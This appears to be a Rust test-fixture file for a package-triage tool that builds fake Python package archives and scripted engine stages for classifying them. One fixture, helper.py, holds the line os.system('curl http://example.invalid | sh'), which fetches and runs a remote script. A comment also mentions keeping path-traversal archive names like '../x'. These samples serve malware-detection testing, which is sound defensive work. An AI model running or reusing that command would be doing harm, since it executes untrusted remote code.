//! Shared fixtures for the integration tests: package archives built on the
//! fly and scripted engines that drive the ingest and metadata stages.

#![allow(dead_code)]

use bzip2::write::BzEncoder;
use flate2::write::GzEncoder;
use pkgtriage::core::context::PackageMetadata;
use pkgtriage::engine::scripted::{ScriptedEngine, Step};
use pkgtriage::engine::{EngineTurn, Exchange, StageRequest};
use pkgtriage::stages::StageKind;
use pkgtriage::tools::{ToolCall, ToolKind};
use pkgtriage::PipelineConfig;
use serde_json::{json, Value};
use std::fs::File;
use std::io::Write;
use std::path::{Path, PathBuf};
use zip::write::SimpleFileOptions;

/// The two-member package used by the archive-kind tests.
pub const TWO_FILES: &[(&str, &str)] = &[("a.py", "print('a')\n"), ("b/c.txt", "nested text\n")];

pub const SETUP_PY: &str = "import os\nimport helper\n\nsetup(name='demo', version='0.1.0')\n";
pub const HELPER_PY: &str = "import os\n\ndef run():\n    os.system('curl http://example.invalid | sh')\n";
pub const PKG_INFO: &str = "Metadata-Version: 2.1\nName: demo\nVersion: 0.1.0\nAuthor: Jane Roe\nAuthor-email: jane@example.invalid\nSummary: demo package\n";

/// Minimal package: setup.py importing os and helper, helper.py, PKG-INFO.
pub fn demo_package() -> Vec<(&'static str, &'static str)> {
    vec![
        ("PKG-INFO", PKG_INFO),
        ("setup.py", SETUP_PY),
        ("helper.py", HELPER_PY),
    ]
}

pub fn zip_package(dir: &Path, name: &str, files: &[(&str, &str)]) -> PathBuf {
    let path = dir.join(name);
    let mut zip = zip::ZipWriter::new(File::create(&path).unwrap());
    let options = SimpleFileOptions::default();
    for (member, body) in files {
        zip.start_file(*member, options).unwrap();
        zip.write_all(body.as_bytes()).unwrap();
    }
    zip.finish().unwrap();
    path
}

fn append_tar<W: Write>(builder: &mut tar::Builder<W>, files: &[(&str, &str)]) {
    for (member, body) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(body.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append_data(&mut header, member, body.as_bytes()).unwrap();
    }
}

pub fn tar_gz_package(dir: &Path, name: &str, files: &[(&str, &str)]) -> PathBuf {
    let path = dir.join(name);
    let encoder = GzEncoder::new(File::create(&path).unwrap(), flate2::Compression::default());
    let mut builder = tar::Builder::new(encoder);
    append_tar(&mut builder, files);
    builder.into_inner().unwrap().finish().unwrap();
    path
}

pub fn tar_bz2_package(dir: &Path, name: &str, files: &[(&str, &str)]) -> PathBuf {
    let path = dir.join(name);
    let encoder = BzEncoder::new(File::create(&path).unwrap(), bzip2::Compression::default());
    let mut builder = tar::Builder::new(encoder);
    append_tar(&mut builder, files);
    builder.into_inner().unwrap().finish().unwrap();
    path
}

pub fn gz_file(dir: &Path, name: &str, body: &str) -> PathBuf {
    let path = dir.join(name);
    let mut encoder = GzEncoder::new(File::create(&path).unwrap(), flate2::Compression::default());
    encoder.write_all(body.as_bytes()).unwrap();
    encoder.finish().unwrap();
    path
}

/// Member names are stored verbatim, so hostile names like `../x` survive.
#[cfg(feature = "sevenz")]
pub fn sevenz_package(dir: &Path, name: &str, files: &[(&str, &str)]) -> PathBuf {
    use sevenz_rust::{SevenZArchiveEntry, SevenZWriter};

    let path = dir.join(name);
    let staging = dir.join(format!("{name}.members"));
    std::fs::create_dir_all(&staging).unwrap();
    let mut writer = SevenZWriter::new(File::create(&path).unwrap()).unwrap();
    for (i, (member, body)) in files.iter().enumerate() {
        let source = staging.join(i.to_string());
        std::fs::write(&source, body).unwrap();
        let entry = SevenZArchiveEntry::from_path(&source, member.to_string());
        writer.push_archive_entry(entry, Some(body.as_bytes())).unwrap();
    }
    writer.finish().unwrap();
    path
}

/// Config with every scratch tree under `root` and a short retry delay.
pub fn test_config(root: &Path) -> PipelineConfig {
    let mut config = PipelineConfig::default().with_scratch_root(root);
    config.retry.delay_ms = 10;
    config
}

fn context_str(request: &StageRequest, key: &str) -> String {
    request.context[key].as_str().unwrap_or_default().to_string()
}

/// Output of the first tool result of the exchange at `index`.
pub fn tool_output(transcript: &[Exchange], index: usize) -> Value {
    match &transcript[index] {
        Exchange::Tools { results, .. } => results[0].output.clone(),
        other => panic!("expected tool exchange, got {other:?}"),
    }
}

/// Ingest script: unpack the input, then report the recorded snapshot path.
pub fn ingest_script(kind: ToolKind) -> Vec<Step> {
    vec![
        Step::computed(move |request, _| {
            let path = context_str(request, "package_location");
            Ok(EngineTurn::ToolCalls(vec![ToolCall::new(
                "unpack",
                kind,
                json!({ "path": path }),
            )]))
        }),
        Step::computed(|request, _| {
            Ok(EngineTurn::Final(json!({
                "package_formatted_path": request.context["package_formatted_path"].clone()
            })))
        }),
    ]
}

/// Metadata script: extract metadata and file info, then echo the metadata.
pub fn metadata_script() -> Vec<Step> {
    vec![
        Step::tools(vec![
            ToolCall::new("meta", ToolKind::ExtractMetadata, json!({})),
            ToolCall::new("files", ToolKind::FileInfo, json!({})),
        ]),
        Step::computed(|request, _| {
            let metadata: PackageMetadata = serde_json::from_value(request.context["metadata"].clone())
                .unwrap_or_else(|_| PackageMetadata::unknown());
            Ok(EngineTurn::Final(serde_json::to_value(metadata)?))
        }),
    ]
}

/// Classify script that reads setup.py, lists its imports, follows the one
/// import present in the package, and flags it.
pub fn follow_imports_script() -> Vec<Step> {
    vec![
        Step::tools(vec![ToolCall::new(
            "setup",
            ToolKind::FetchScript,
            json!({ "file_name": "setup.py" }),
        )]),
        Step::computed(|_, transcript| {
            let source = tool_output(transcript, 0);
            Ok(EngineTurn::ToolCalls(vec![ToolCall::new(
                "imports",
                ToolKind::ListImports,
                json!({ "source": source }),
            )]))
        }),
        Step::computed(|request, transcript| {
            let imports = tool_output(transcript, 1);
            let python_files = request.context["files"]["python_files"].clone();
            let local: Vec<String> = imports
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(|m| m.as_str())
                .map(|m| format!("{m}.py"))
                .filter(|f| {
                    python_files
                        .as_array()
                        .into_iter()
                        .flatten()
                        .any(|p| p.as_str() == Some(f.as_str()))
                })
                .collect();
            let calls = local
                .iter()
                .map(|f| ToolCall::new(f.clone(), ToolKind::FetchScript, json!({ "file_name": f })))
                .collect();
            Ok(EngineTurn::ToolCalls(calls))
        }),
        Step::answer(json!({
            "classification": "malicious",
            "justification": "helper.py pipes a remote script into a shell",
            "suspicious_files": ["helper.py"]
        })),
    ]
}

pub fn benign_answer() -> Vec<Step> {
    vec![Step::answer(json!({
        "classification": "benign",
        "justification": "no suspicious behaviour",
        "suspicious_files": []
    }))]
}

/// Engine driving all three stages for archive inputs.
pub fn archive_engine(classify: Vec<Step>) -> ScriptedEngine {
    ScriptedEngine::new("scripted-test")
        .with_stage(StageKind::Ingest, ingest_script(ToolKind::UnpackArchive))
        .with_stage(StageKind::Metadata, metadata_script())
        .with_stage(StageKind::Classify, classify)
}

/// Engine driving all three stages for directory inputs.
pub fn folder_engine(classify: Vec<Step>) -> ScriptedEngine {
    ScriptedEngine::new("scripted-test")
        .with_stage(StageKind::Ingest, ingest_script(ToolKind::UnpackFolder))
        .with_stage(StageKind::Metadata, metadata_script())
        .with_stage(StageKind::Classify, classify)
}
